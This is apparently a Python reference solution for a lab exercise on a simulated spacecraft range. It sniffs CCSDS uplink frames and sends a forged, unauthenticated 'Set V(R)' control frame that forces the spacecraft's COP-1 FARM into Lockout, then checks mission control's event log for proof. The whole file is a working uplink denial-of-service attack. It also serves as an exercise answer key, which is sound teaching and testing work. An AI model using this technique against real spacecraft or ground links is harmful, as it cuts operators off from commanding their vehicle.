"""Reference attack for cop1-lockout: run on the attacker workstation, as the student.

1. Listen on the uplink air (UDP 5101 on the rf segment: the rf-link broadcasts every
   uplink frame there) for the ground station's next type-AD frame: its header gives the
   SCID, the virtual channel and N(S), the station's V(S) at that moment. The frame's data
   is authenticated (SDLS); its header is not secret.
2. Transmit a clear BC frame *Set V(R)* to rf-link:5100 that puts FARM-1's V(R) half the
   sequence space away from the station's next N(S). The spacecraft accepts control
   commands without SDLS, so its V(R) moves; the station's next authenticated frame then
   lies outside FARM-1's window, and FARM-1 enters Lockout: the spacecraft refuses every
   AD frame until an Unlock. Each time the station recovers, the same directive does it
   again (here it is sent once, and once more if no lockout came).
3. The evidence: the spacecraft's fault detection reports the lockout (FARM_LOCKOUT) with
   a reference, in mission control's event log; read it with the student's own account.

Exit status 0 when the spacecraft reported a lockout quoting the reference, 2 when no
uplink frame was heard, 3 when no such FARM_LOCKOUT event came.
"""

from __future__ import annotations

import re
import socket
import sys
import time

from labctl.protocols.tc_frame import FrameKind, TcFrame, set_vr_frame
from labctl.range import wiring
from labctl.range.missionclient import MissionControl, MissionControlError

LISTEN_S = 45.0
RF_LINK = (wiring.RF_LINK, wiring.UPLINK_IN)
HALF_SPACE = 128
REFERENCE = re.compile(r"LOCKOUT\{[0-9a-f]+\}")


def sniff_ad_frame(seconds: float) -> TcFrame | None:
    """The next type-AD frame heard on the uplink air, or None."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("", wiring.UPLINK_AIR))
        sock.settimeout(seconds)
        try:
            while True:
                datagram = sock.recv(2048)
                try:
                    frame = TcFrame.decode(datagram)
                except ValueError:
                    continue
                if frame.kind is FrameKind.AD:
                    return frame
        except TimeoutError:
            return None


def force_lockout(frame: TcFrame) -> int:
    """A clear Set V(R) half the sequence space away from the station's next N(S)."""
    vr = (frame.seq + 1 + HALF_SPACE) % 256
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(set_vr_frame(frame.scid, frame.vcid, vr).encode(), RF_LINK)
    print(f"heard N(S)={frame.seq} SCID={frame.scid} VC={frame.vcid}; sent clear Set V(R)={vr}")
    return vr


def last_event_id(mc: MissionControl) -> int:
    """The newest event's id in mission control's log (0 when empty)."""
    events = mc.request("GET", "/api/events?limit=1")["events"]
    return int(events[0]["id"]) if events else 0


def evidence(mc: MissionControl, after: int, seconds: float) -> str | None:
    """The reference quoted by a FARM_LOCKOUT event newer than event ``after``."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for event in mc.request("GET", "/api/events?limit=50")["events"]:
            found = REFERENCE.search(event.get("aux_text") or "")
            if event["id"] > after and event["name"] == "FARM_LOCKOUT" and found:
                return found.group(0)
        time.sleep(1.0)
    return None


def main() -> int:
    try:
        mc = MissionControl.from_file()
        before = last_event_id(mc)
        for _attempt in range(2):
            print(f"listening on the uplink air (UDP {wiring.UPLINK_AIR})...", flush=True)
            frame = sniff_ad_frame(LISTEN_S)
            if frame is None:
                print("no uplink frame heard")
                return 2
            force_lockout(frame)
            # the lockout comes with the station's next frame (operations send every 15 s)
            reference = evidence(mc, before, 25.0)
            if reference is not None:
                print(f"FARM_LOCKOUT event quotes {reference}: the station is locked out")
                return 0
    except MissionControlError as exc:
        print(f"mission control: {exc}")
        return 3
    print("no FARM_LOCKOUT event: the forged Set V(R) did not lock the station out")
    return 3


if __name__ == "__main__":
    sys.exit(main())
